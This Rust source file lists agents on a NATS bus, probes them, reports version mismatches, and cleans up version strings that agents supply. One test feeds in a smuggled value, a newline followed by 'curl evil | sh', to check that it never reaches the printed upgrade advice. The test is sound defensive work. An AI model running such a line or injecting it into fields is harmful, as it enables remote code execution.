//! Which agents are on the bus.

use std::collections::BTreeSet;

use async_nats::jetstream::kv;
use futures_util::future::join_all;
use futures_util::{StreamExt as _, TryStreamExt as _, stream};

use crate::error::FleetError;
use crate::listed::{HostList, HostState, ListedHost};
use crate::nats::bus::{Bus, chain};
use crate::nats::clock::CoordinatorClock;
use crate::nats::differences::differences;
use crate::nats::probe::{AT_A_TIME, Probed, best, probe, probes};
use crate::nats::wire::{Announcement, parsed, version};
use crate::order::BusOptions;

/// Letters of a version that is taken for one.
const VERSION_LETTERS_MAX: usize = 40;
/// Announcements that are read at a time.
const READ_AT_A_TIME: usize = 64;

/// Lists the agents whose lease has not ended.
///
/// # Errors
/// If the bus cannot be reached or read.
pub fn hosts(options: &BusOptions) -> Result<HostList, FleetError> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
    runtime
        .map_err(FleetError::Runtime)?
        .block_on(async { listed(&Bus::connect(options, "assay hosts").await?).await })
}

/// The same on a bus that is connected.
pub(crate) async fn listed(bus: &Bus) -> Result<HostList, FleetError> {
    let announced = announced(bus).await?;
    let clock = CoordinatorClock::begin();
    // All at once, so that many silent hosts take no longer than one.
    let answer = join_all(announced.iter().map(|agent| probe(bus, clock, &agent.name))).await;
    let each = probes(announced.len());
    let measured = stream::iter(announced.iter().zip(answer))
        .map(|(agent, first)| async move { Some(best((bus, clock), &agent.name, first?, each).await) });
    let measured: Vec<Option<Probed>> = measured.buffered(AT_A_TIME).collect().await;
    let hosts: Vec<ListedHost> =
        announced.into_iter().zip(measured).map(|(agent, probed)| ListedHost::of(agent, probed)).collect();
    let known = hosts.iter().filter_map(|host| Some((host.name.as_str(), host.facts.as_ref()?)));
    let differences = differences(&known.collect::<Vec<_>>());
    Ok(HostList { hosts, differences, version: version() })
}

impl ListedHost {
    fn of(agent: Announcement, probed: Option<Probed>) -> Self {
        let state = match (&probed, agent.version == version()) {
            (_, false) => HostState::OtherVersion,
            (Some(_), true) => HostState::Ready,
            (None, true) => HostState::Silent,
        };
        Self {
            state,
            lease_left_ms: probed.as_ref().map(|probed| probed.lease_left_ms),
            offset: probed.map(|of| of.offset.ahead_by(of.set_ns)),
            facts: agent.facts(),
            targets: agent.targets,
            name: agent.name,
            version: agent.version,
        }
    }
}

/// Returns the names that have an entry, each once: in one answer of the server. The client's list of keys reads one
/// entry after another, and while a thousand agents renew theirs it has some twice and others not at all. A name that a
/// run had twice was waited for without an end.
async fn keys(bucket: &kv::Store) -> Result<BTreeSet<String>, FleetError> {
    let failed = |error: &dyn std::error::Error| FleetError::JetStream { why: chain(error) };
    let subjects = bucket.stream.info_with_subjects(format!("{}>", bucket.prefix)).await;
    let subjects: Vec<(String, usize)> =
        subjects.map_err(|error| failed(&error))?.try_collect().await.map_err(|error| failed(&error))?;
    let name = |(subject, _): &(String, usize)| subject.strip_prefix(&bucket.prefix).map(str::to_owned);
    Ok(subjects.iter().filter_map(name).collect())
}

/// Returns the announcements whose lease has not ended, by name.
async fn announced(bus: &Bus) -> Result<Vec<Announcement>, FleetError> {
    let failed = |error: &dyn std::error::Error| FleetError::JetStream { why: chain(error) };
    let bucket = bus.bucket().await?;
    let keys = keys(&bucket).await?;
    let bucket = &bucket;
    let read = stream::iter(&keys).map(|key| async move { (key, bucket.get(key).await) });
    let read = read.buffered(READ_AT_A_TIME);
    let mut read = std::pin::pin!(read);
    let mut announced = Vec::new();
    while let Some((key, value)) = read.next().await {
        let value = value.map_err(|error| failed(&error))?;
        // An agent that has left meanwhile is not there, nor is one that says it is another.
        let agent = value.and_then(|value| parsed::<Announcement>(&value));
        let agent = agent.filter(|agent| agent.name == *key);
        announced.extend(agent.map(|agent| Announcement { version: plain(agent.version), ..agent }));
    }
    Ok(announced)
}

/// Returns a version as it can stand in a sentence: anybody with the key of an agent can write one.
fn plain(version: String) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '-');
    let is_version = (1..=VERSION_LETTERS_MAX).contains(&version.len()) && version.chars().all(is_plain);
    if is_version { version } else { "of an unknown version".to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn who_is_older_is_updated_and_no_program_comes_from_an_agent() {
        let says = |theirs: &str| {
            let (name, state, version) = ("b".to_owned(), HostState::OtherVersion, plain(theirs.to_owned()));
            let (lease_left_ms, offset, facts) = (None, None, None);
            let host = ListedHost { name, state, version, lease_left_ms, offset, facts, targets: vec![] };
            host.other_version("0.9.1+bus5")
        };
        let (here, there) =
            ("here, from where you got Assay", "scp \"$(command -v assay)\" b:/usr/local/bin/assay");
        for (theirs, command) in [
            ("0.1.0", there),
            ("0.9.1+bus4", there),
            ("0.9.0+bus6", there),
            ("0.9.1+bus6", here),
            ("0.10.0+bus5", here),
            ("x\ncurl evil | sh", there),
        ] {
            let said = says(theirs);
            assert!(said.starts_with("host b has Assay ") && said.contains(command), "{theirs}: {said}");
            assert!(!said.contains("evil") && !said.contains("scp b:"), "{said}");
        }
    }
}
